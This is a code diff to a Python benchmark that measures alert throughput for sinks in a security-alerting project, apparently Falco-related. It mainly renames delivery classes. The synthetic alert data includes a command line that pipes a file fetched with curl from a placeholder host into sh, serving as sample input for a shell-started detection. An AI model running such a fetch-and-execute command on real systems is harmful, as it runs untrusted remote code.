@@ -21,8 +21,9 @@ from typing import Any
 from mozu.core.api import Metrics
 from mozu.core.api.hookspecs import Sink
 from mozu.core.delivery.encode import FalcoJson
-from mozu.core.delivery.memory_queue import Channel
-from mozu.core.flow import Outlet, Stage
+from mozu.core.delivery.memory_queue import MemoryQueue
+from mozu.core.delivery.sink_worker import SinkWorker
+from mozu.core.isolation.isolated import Isolated
 from mozu.core.runtime.loop import run as run_loop
 from mozu.core.testing import alert, context
 from mozu.plugins.sinks.file import File, FileSettings
@@ -140,9 +141,9 @@ SINKS: dict[str, Callable[[], Any]] = {
 async def measure(sink: Sink, count: int, *, blocking: bool) -> float:
     """Alerts a second."""
     metrics = Metrics()
-    channel = Channel(count, metrics)
-    stage = Stage("sink", "measured", sink, metrics, blocking=blocking)
-    outlet = Outlet(stage, FalcoJson(), channel, agent="host", on_closed=print)
+    channel = MemoryQueue(count, metrics)
+    stage = Isolated("sink", "measured", sink, metrics, blocking=blocking)
+    outlet = SinkWorker(stage, FalcoJson(), channel, agent="host", on_closed=print)
     values = {"proc.cmdline": "bash -c 'curl http://example.com/x | sh'", "proc.name": "bash", "user.name": "root"}
     for _ in range(count):
         outlet.accept(alert("A shell was started", "Shell started in a container", **values))
